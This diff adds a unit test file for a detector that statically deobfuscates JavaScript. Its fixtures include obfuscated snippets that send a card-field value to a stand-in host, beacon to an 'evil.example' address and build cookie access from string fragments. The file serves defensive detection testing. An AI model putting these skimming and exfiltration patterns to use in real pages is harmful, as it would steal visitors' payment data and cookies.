@@ -1,0 +1,70 @@
+import { describe, expect, it } from 'vitest'
+import { parseStrict } from '../../detector/parse.ts'
+import { resolveStatically } from '../../detector/deobfuscate/partial.ts'
+
+// The partial evaluator as data: source in, what the resolved layer must and must not say.
+const CASES: { name: string; source: string; has: string[]; not?: string[] }[] = [
+  {
+    name: 'a global array of escaped strings read by index, also as property names',
+    source: `var _$=['\\x76\\x61\\x6c\\x75\\x65','\\u0073\\u0065\\u006e\\u0064','https://h.example/c'];
+      var i=document.getElementById('cc'); var x=new XMLHttpRequest(); x.open('POST',_$[2]); x[_$[1]](i[_$[0]]);`,
+    has: ['x.send(', 'i.value', '"https://h.example/c"'],
+  },
+  {
+    name: 'a local decoder (XOR over char codes with a key) called with constants',
+    source: `function d(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return o}
+      var t=d(${JSON.stringify([...'https://evil.example/g'].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'k7'.charCodeAt(i % 2))).join(''))},'k7'); navigator.sendBeacon(t, 'x')`,
+    has: ['"https://evil.example/g"'],
+  },
+  {
+    name: 'member chains built from concatenations',
+    source: `var h = window['loc'+'ation']['hos'+'t']; document['cook'+'ie'] = 'a=1'`,
+    has: ['window.location.host', 'document.cookie'],
+  },
+  {
+    name: 'an array rotated by a constant loop before use',
+    source: `var a=['b','c','a']; (function(x,n){while(n--)x.push(x.shift())})(a,2); var k = a[0] + a[1] + a[2]; fetch(k)`,
+    has: ['"abc"'],
+  },
+  {
+    name: 'switch-in-loop flattening driven by an order string',
+    source: `var o='2|0|1'.split('|'),i=0;while(true){switch(o[i++]){case '0':var b=2;continue;case '1':fetch('/x?'+a+b);continue;case '2':var a=1;continue}break}`,
+    has: ['var a=1;\nvar b=2;\nfetch('],
+  },
+  {
+    name: 'constant branches keep only the live arm',
+    source: `function f(){ return 'k' } if (f() === 'k') { send(1) } else { decoy() }`,
+    has: ['send(1)'],
+    not: ['decoy'],
+  },
+  {
+    name: 'a value set by a statement that cannot be followed stays unknown',
+    source: `var port = location.port ? ':' + location.port : ''; fetch('http://api.example' + port + '/t')`,
+    has: [],
+    not: ['undefined'],
+  },
+  {
+    name: 'a variable changed in a callback is never inlined',
+    source: `var u = 'a'; var n = 0; el.onclick = function(){ n++; u = u + n }; fetch(u + '/p')`,
+    has: [],
+    not: ['"a/p"'],
+  },
+]
+
+describe('partial evaluator', () => {
+  for (const c of CASES)
+    it(c.name, () => {
+      const ast = parseStrict(c.source)
+      expect(ast).not.toBeNull()
+      const out = resolveStatically(ast as never, c.source)?.source ?? c.source
+      for (const s of c.has) expect(out).toContain(s)
+      for (const s of c.not ?? []) expect(out).not.toContain(s)
+    })
+
+  it('stops an endless loop at its step budget', () => {
+    const source = `var s = 'x'; while (true) { s = s + '' } var z = ['a','b'][1] + 'c'; fetch(z)`
+    const t0 = performance.now()
+    resolveStatically(parseStrict(source) as never, source)
+    expect(performance.now() - t0).toBeLessThan(20_000)
+  })
+})
